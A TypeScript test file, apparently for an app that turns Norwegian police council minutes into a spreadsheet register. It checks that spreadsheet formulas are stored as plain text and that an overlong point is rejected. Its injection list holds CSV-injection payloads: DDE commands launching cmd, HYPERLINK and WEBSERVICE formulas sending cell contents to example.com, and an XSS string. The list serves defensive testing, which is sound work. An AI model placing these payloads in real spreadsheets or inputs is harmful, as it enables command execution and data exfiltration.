// Minutes that hold what a spreadsheet could run, or a person could be fooled by, all the way into the cells: it stays text.
// Source of the strings: OWASP, «CSV Injection», and what Excel itself takes for a formula, a link or a command.
import { refreshRegister, writeDraft } from '../../src/app';
import { builtInUnits, type MinutesDraft } from '../../src/domain';
import { readMinutes } from '../../src/minutes';
import { emptyRegister } from '../support/register-workbook';

const injections = [
  '=1+2',
  '=cmd|\u0027/C calc\u0027!A0',
  '@SUM(1+1)*cmd|\u0027/C calc\u0027!A0',
  '+1+cmd|\u0027/C calc\u0027!A0',
  '-2+3+cmd|\u0027/C calc\u0027!A0',
  '=HYPERLINK("https://example.com?x="&A1,"Feil: klikk her")',
  '=WEBSERVICE("https://example.com/"&A1)',
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTXML(CONCAT("https://example.com",A1),"//a")',
  '"=1+1"',
  "'=1+1",
  '\u00A0=1+1',
  '\uFF1D1+1',
  '\u200B=1+1',
  '<img src=x onerror=alert(1)>',
  '\u202E=1+1\u202C snudd',
];

const minutes = (points: readonly string[]): string =>
  `Referat fra politirådets møte 10. oktober 2025\n\nOppfølgingspunkter:\n\n${points.map((point) => `• ${point} er et punkt.\no Ansvarlig: OPD\n\n`).join('')}`;

const draftOf = (text: string): MinutesDraft => readMinutes(text, { units: builtInUnits });

/** Columns of the sheet, from the left, that are never formulas. */
const ownColumns = { Punkter: 11, Status: 2 } as const;

it('writes injections from minutes as text', async () => {
  const { workbench, deps } = await emptyRegister();
  const draft = draftOf(minutes(injections));
  expect(draft.points).toHaveLength(injections.length);
  expect((await writeDraft(draft, deps)).notice.kind).not.toBe('error');
  for (const [sheet, columns] of Object.entries(ownColumns)) {
    const formulas = await workbench.formulas(sheet);
    for (const row of formulas) expect(row.slice(0, columns).filter((formula) => formula !== undefined)).toEqual([]);
  }
  const { register } = await refreshRegister(deps);
  expect(register.points.map(({ text }) => text)).toEqual(draft.points.map(({ text }) => text.trim()));
});

it('refuses a point of 40 000 characters in words, and writes none of the minutes', async () => {
  const { deps } = await emptyRegister();
  const draft = draftOf(minutes(['Et', 'x'.repeat(40_000)]));
  const { notice } = await writeDraft(draft, deps);
  expect([notice.kind, notice.problems.map(({ code }) => code)]).toEqual(['error', ['textTooLong']]);
  expect((await refreshRegister(deps)).register.points).toEqual([]);
});
